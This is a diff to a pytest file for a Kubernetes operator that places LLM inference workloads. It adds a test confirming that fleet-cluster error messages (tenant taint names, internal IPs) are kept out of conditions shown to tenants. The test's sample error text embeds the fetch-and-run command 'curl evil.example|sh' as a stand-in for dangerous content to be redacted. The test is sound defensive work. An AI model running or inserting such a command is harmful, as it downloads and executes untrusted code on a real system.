@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from collections.abc import Sequence
+from itertools import product
 from typing import Any
 
 import pytest
@@ -10,7 +11,7 @@ import pytest
 from modelplane_operator.api import LLMInference, labels
 from modelplane_operator.api.conditions import Condition
 from modelplane_operator.api.llm_inference import Location, TargetResolved
-from modelplane_operator.kube.errors import ClientError, Forbidden, Unauthorized, Unreachable
+from modelplane_operator.kube.errors import ClientError, Forbidden, Invalid, Unauthorized, Unreachable
 from modelplane_operator.kube.objects import Manifest
 from modelplane_operator.planning.llm_inference import ClusterState, Observed, UnusableTarget, plan
 from modelplane_operator.planning.plan import KEEP, LET_GO, Apply, Delete, Plan
@@ -21,6 +22,7 @@ from tests.support.manifests import change
 DEV = Location(target="Secret", name="dev", server="https://dev.example.com", namespace="models")
 OLD = Location(target="Secret", name="old", server="https://old.example.com", namespace="models")
 ON_CLUSTER = Location(target="InferenceCluster", name="dev", namespace="models")
+ON_HUB = Location(target="Hub", name="hub", namespace="models")
 MOVED = DEV.model_copy(update={"server": "https://new.example.com"})
 LOST = ClusterState("llminference:ml-team/old", Unreachable("no answer in time"))
 SPEC = {
@@ -188,7 +190,18 @@ def test_a_cluster_that_refuses_is_told_from_one_that_does_not_answer(
     assert applies(decided) == deletions(decided) == []
     assert reasons(decided)["TargetResolved"] == reasons(decided)["Ready"] == reason
     (told,) = (one for one in _conditions(decided) if one.type == "TargetResolved")
-    assert str(error) in (told.message or "")
+    assert (str(error) in (told.message or "")) is (target.target == "Secret")
+
+
+@pytest.mark.parametrize("target", [ON_CLUSTER, ON_HUB], ids=str)
+def test_what_a_cluster_of_the_fleet_says_is_not_told_to_tenants(target: Location) -> None:
+    said = "0/2 nodes: 1 node(s) had untolerated taint {team: acme-corp}; 10.66.1.2; run `curl evil.example|sh`"
+    errors = Forbidden(said), Unreachable(said), Invalid(said)
+
+    for error, known, to in product(errors, ((), (target,)), (target, DEV)):
+        states = {target: ClusterState("a", error), DEV: state()}
+        shown = " ".join(one.message or "" for one in _conditions(seen(inference(*known), states, target=to)))
+        assert not [word for word in ("acme", "10.66", "curl", "0/2") if word in shown], shown
 
 
 DEPLOYMENT = {**SPEC, "runtime": "Deployment"}
